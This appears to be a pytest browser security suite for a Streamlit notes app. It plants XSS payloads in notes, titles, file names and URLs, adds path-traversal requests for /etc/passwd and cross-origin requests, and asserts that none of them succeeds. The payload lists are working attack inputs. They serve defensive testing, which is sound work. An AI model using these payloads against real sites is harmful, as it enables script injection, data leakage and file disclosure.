"""Notes, names, questions and addresses as an attacker writes them, in a real browser.

A second server is the attacker's: whatever a page loads from it, or sends to it, is counted there.
"""

from __future__ import annotations

import http.client
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from browsing import NEEDS_BROWSER, PATIENCE_MS, Visit, Visitor
from serving import indexed, serving

from kb.config import Settings

if TYPE_CHECKING:
    pass

pytestmark = NEEDS_BROWSER
SECRET = "root:x:0:0"
# Each is the body of a note; {out} is the attacker's address.
ATTACKS = {
    "scripts": (
        "<script>own()</script><script src={out}/s.js></script><SCRIPT\n>own()</SCRIPT >"
        "<style onload=own()></style><body onload=own()><math><mtext></p><script>own()</script>"
    ),
    "handlers": (
        "<img src=x onerror=own()> <svg onload=own()> <details open ontoggle=own()>x</details>\n\n"
        "<input autofocus onfocus=own()> <video><source onerror=own()></video>"
        '<a href="#" onmouseover=own()>hover</a> <marquee onstart=own()>m</marquee>'
    ),
    "links": (
        "[one](javascript:own()) [two](JaVaScRiPt:own()) [three](java&#115;cript:own()) "
        "[four](<javascript:own()>) [five](vbscript:own()) [six](&#x6A;avascript:own()) "
        "[seven](data:text/html,<script>own()</script>) [eight](javascript&colon;own())\n\n"
        "<javascript:own()> [nine]: javascript:own()\n\n[nine] [ten](file:///etc/passwd)"
    ),
    "pictures": (
        "![a]({out}/a.png) ![b](//{host}/b.png) <img src={out}/c.png> ![d](data:image/svg+xml,"
        "<svg xmlns='http://www.w3.org/2000/svg' onload='own()'/>) ![e][ref]\n\n"
        "[ref]: {out}/e.png\n\n<picture><source srcset={out}/f.png></picture>"
    ),
    "frames": (
        "<iframe src={out}/f></iframe><iframe srcdoc='<script>parent.own()</script>'></iframe>"
        "<object data={out}/o></object><embed src={out}/e><form action={out}/form><input name=q>"
        "<button>go</button></form><base href={out}/><meta http-equiv=refresh content='0;{out}'>"
        "<link rel=stylesheet href={out}/l.css><video src={out}/v autoplay></video>"
    ),
    "styles": (
        "<style>@import url({out}/i.css); body {{ background: url({out}/bg.png) }}"
        " [data-testid=stApp] {{ display: none }}</style>"
        "<p style='position:fixed;inset:0;background:url({out}/p.png)'>cover</p>"
    ),
    "formulas": (
        r"$\href{{javascript:own()}}{{click}}$ $\url{{javascript:own()}}$ "
        r"$$\includegraphics{{{out}/tex.png}}$$ $\htmlData{{x=y}}{{z}}$ "
        r"$\style{{background:url({out}/tex2.png)}}{{s}}$ $\htmlStyle{{color:red}}{{q}}$ "
        r"$\def\a{{\a\a}}\a$"
    ),
    "wiki": (
        "[[<img src=x onerror=own()>]] [[x|<script>own()</script>]] ![[{out}/embed.png]] "
        "[[javascript:own()|js]] [[../../etc/passwd]] [[x](javascript:own())|y]]\n\n"
        "> [!note]- <img src=x onerror=own()>\n> [t](javascript:own())"
    ),
    "streamlit": (
        ":red[<img src=x onerror=own()>] :material/home: :blue-badge[[b](javascript:own())] "
        ":small[<script>own()</script>] :streamlit: {{{{7*7}}}} ${{7*7}} <% own() %>\n\n"
        "```mermaid\ngraph TD; A[<img src=x onerror=own()>]-->B\n```\n\n```html\n<script>own()"
        "</script>\n```\n\n| <img src=x onerror=own()> |\n| --- |\n| [c](javascript:own()) |\n"
    ),
    "svg": (
        '<svg><a xlink:href="javascript:own()"><text y=20>svg</text></a><use href="{out}/u.svg#x"/>'
        "<animate onbegin=own() attributeName=x dur=1s /><foreignObject><iframe srcdoc="
        "'<script>parent.own()</script>'></iframe></foreignObject><script>own()</script></svg>"
    ),
}
FRONT = "<img src=x onerror=own()> [t](javascript:own()) **b** $x$ :red[r]"
NAME = "<img src=x onerror=own()> [n](javascript:own()) 'x' & \"y\".md"


@pytest.fixture(scope="module")
def attacker() -> Iterator[tuple[str, list[str]]]:
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def notes(attacker: tuple[str, list[str]], tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("attacked") / "notes"
    (folder / "<b onclick=own()>").mkdir(parents=True)
    out, host = attacker[0], attacker[0].removeprefix("http://")
    for name, body in ATTACKS.items():
        text = body.format(out=out, host=host)
        (folder / f"{name}.md").write_text(f"# Quokka {name}\n\nThe quokka {name} word: {text}\n")
    (folder / "<b onclick=own()>" / NAME).write_text(
        f"---\ntitle: '{FRONT}'\ntags: ['{FRONT}']\naliases: ['{FRONT}']\n"
        f"faq:\n  - question: '{FRONT}?'\n    answer: '{FRONT}'\n---\n"
        f"# {FRONT}\n\n## {FRONT}\n\nThe wombat password is {FRONT}.\n"
    )
    outside = folder.parent / "outside.md"
    outside.write_text(f"# Outside\n\n{SECRET}\n")
    (folder / "link.md").symlink_to(outside)
    return indexed(folder, {})


@pytest.fixture(scope="module")
def url(notes: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    log = tmp_path_factory.mktemp("log") / "server.log"
    with serving(Settings.load(notes, port=0), log) as address:
        yield address


HARMFUL = """() => {
  const bad = []
  for (const each of document.querySelectorAll('[data-testid=stApp] *, head *')) {
    const name = each.tagName.toLowerCase()
    if (['iframe', 'object', 'embed', 'base', 'portal', 'marquee'].includes(name)) bad.push(name)
    if (name === 'script' && each.closest('[data-testid=stApp]')) bad.push(name)
    if (name === 'form' && each.hasAttribute('action')) bad.push('form')
    for (const { name: key, value } of each.attributes) {
      if (/^on/i.test(key)) bad.push(`${name} ${key}`)
      const is_link = ['href', 'src', 'action', 'xlink:href', 'data', 'srcset'].includes(key)
      if (is_link && /^\\s*(javascript|vbscript)/i.test(value)) bad.push(value)
    }
  }
  if (window.owned) bad.push('a script ran')
  if (getComputedStyle(document.querySelector('[data-testid=stApp]')).display === 'none')
    bad.push('a style was taken over')
  return bad
}"""


def harmless(visitor: Visitor) -> None:
    visitor.settle()
    assert visitor.page.evaluate(HARMFUL) == []


@pytest.fixture
def armed(visit: Visit, attacker: tuple[str, list[str]]) -> Iterator[Visitor]:
    """A visitor on whose pages an attack would be noticed."""
    attacker[1].clear()
    with visit() as visitor:
        visitor.page.add_init_script("window.own = () => { window.owned = true }")
        yield visitor
        harmless(visitor)
    assert attacker[1] == []


@pytest.mark.parametrize("name", ATTACKS)
def test_note_is_read_as_words(armed: Visitor, name: str) -> None:
    armed.go(f"note?note={name}.md")
    assert f"Quokka {name}" in armed.main.inner_text()
    harmless(armed)
    for link in armed.main.locator(".st-key-kb_rendered a, .katex a").all():
        if not (link.get_attribute("href") or "").startswith("http"):
            link.click()
    # The renderer leaves data: and file: in links; it is the browser that does not follow them.
    armed.page.wait_for_timeout(200)
    for page in armed.page.context.pages:
        assert page.url.startswith((armed.url, "about:blank"))
    harmless(armed)
    armed.page.get_by_text("Source", exact=True).click()
    armed.main.locator(".kb-source").wait_for(timeout=PATIENCE_MS)
    shown = armed.main.locator(".kb-source").inner_text()
    assert ATTACKS[name].replace("{{", "\0").partition("{")[0][:10].replace("\0", "{") in shown


def test_names_titles_and_tags_are_words(armed: Visitor) -> None:
    armed.go("notes")
    armed.main.get_by_text(FRONT[:25]).first.wait_for(timeout=PATIENCE_MS)
    harmless(armed)
    armed.follow(armed.main.locator('a[href*="onclick"]').first)
    assert FRONT in armed.main.inner_text()
    assert NAME in armed.main.inner_text()


def test_answers_and_chats_are_words(armed: Visitor) -> None:
    armed.go()
    armed.page.locator(".st-key-scope summary").click()
    harmless(armed)
    armed.ask("What is the wombat password?")
    harmless(armed)
    question = f"{FRONT} <script>own()</script> wombat password"
    armed.ask(question)
    assert armed.questions.last.inner_text() == question
    armed.go("inbox")


@pytest.mark.parametrize("page", ["", "note", "notes", "inbox", "index", "no-such-page"])
def test_addresses_are_words(armed: Visitor, page: str) -> None:
    evil = quote("<img src=x onerror=own()>javascript:own()")
    names = ("note", "chat", "turn", "lang", "start", "end", evil)
    armed.go(f"{page}?{'&'.join(f'{name}={evil}' for name in names)}#{evil}")


@pytest.mark.parametrize(
    "path",
    ["../outside.md", "..%2Foutside.md", "link.md", "/etc/passwd", ".kb/history.db", "a%00.md"],
)
def test_note_outside_of_the_folder_is_not_read(armed: Visitor, path: str) -> None:
    armed.go(f"note?note={path}")
    assert armed.errors.count() == 1
    assert SECRET not in armed.page.content()


def test_uploaded_name_is_words(armed: Visitor, notes: Path) -> None:
    before = sorted(path for path in notes.parent.rglob("*") if ".kb" not in path.parts)
    armed.go("notes")
    armed.page.get_by_role("tab", name="Add").click()
    armed.page.get_by_test_id("stFileUploaderDropzoneInput").first.set_input_files(
        [
            {"name": name, "mimeType": "text/markdown", "buffer": b"# x"}
            for name in (
                "<img src=x onerror=own()>.md",
                "..\\..\\up.md",
                "[x](javascript:own()).md",
            )
        ]
    )
    armed.settle()
    harmless(armed)
    armed.page.get_by_role("button", name="Add the files").click()
    armed.errors.first.wait_for(timeout=PATIENCE_MS)
    after = sorted(path for path in notes.parent.rglob("*") if ".kb" not in path.parts)
    assert not [path for path in set(after) - set(before) if "(javascript" not in path.name]


SERVED = [
    "/scripts.md",
    "/app/static/scripts.md",
    "/static/../../../../scripts.md",
    "/notes/scripts.md",
    "/media/scripts.md",
    "/component/x/../../../../etc/passwd",
    "/_stcore/component-assets/../../../../etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "//etc/passwd",
    "/.kb/history.db",
    "/.kb/config.toml",
    "/%5c%5cattacker%5cshare",
    "/app.py",
    "/static/%00",
]


@pytest.mark.parametrize("path", SERVED)
def test_no_file_is_served(url: str, path: str) -> None:
    """The answer is an error or Streamlit's own empty page, whatever file is named."""
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
    connection.request("GET", path)
    response = connection.getresponse()
    body = response.read()
    connection.close()
    connection.request("GET", "/")
    empty = connection.getresponse().read()
    connection.close()
    assert response.status >= 400 or body == empty
    for words in (b"quokka", b"root:", b"SQLite", b"streamlit as st"):
        assert words not in body


def upgraded(url: str, **headers: str) -> int:
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
    given = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    }
    connection.request("GET", "/_stcore/stream", headers={**given, **headers})
    status = connection.getresponse().status
    connection.close()
    return status


def test_pages_of_other_sites_are_not_connected(url: str, attacker: tuple[str, list[str]]) -> None:
    assert upgraded(url, Origin=url) == 101
    for origin in ("https://evil.example", attacker[0], "http://localhost:3000", "null"):
        assert upgraded(url, Origin=origin) == 403
    for host in ("evil.example", "127.0.0.1.evil.example", "192.0.2.1"):
        assert upgraded(url, Host=host) == 403
        assert upgraded(url, Host=host, Origin=f"http://{host}") == 403


@pytest.mark.parametrize("header", ["Origin", "Host"])
def test_pages_of_other_sites_are_answered_nothing(url: str, header: str) -> None:
    value = {"Origin": "https://evil.example", "Host": "evil.example"}[header]
    for path in ("/", "/_stcore/health", "/_stcore/host-config", "/static/index.js"):
        connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
        connection.request("GET", path, headers={header: value})
        response = connection.getresponse()
        assert response.status == 403
        assert response.headers["access-control-allow-origin"] is None
        connection.close()


def test_upload_needs_the_token_of_the_page(url: str) -> None:
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
    body = '--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\nhi\r\n--x--\r\n'
    headers = {"Content-Type": "multipart/form-data; boundary=x"}
    connection.request("PUT", "/_stcore/upload_file/s/f", body, headers)
    assert connection.getresponse().status in (400, 403)
    connection.close()


def test_agents_are_not_served(url: str) -> None:
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
    connection.request("POST", "/_stcore/agent/interact", "{}")
    assert connection.getresponse().status >= 400
    connection.close()


def test_embedding_page_of_another_site_shows_nothing(url: str) -> None:
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=30)
    connection.request("GET", "/")
    policy = connection.getresponse().headers["content-security-policy"]
    connection.close()
    assert "frame-ancestors 'self'" in policy
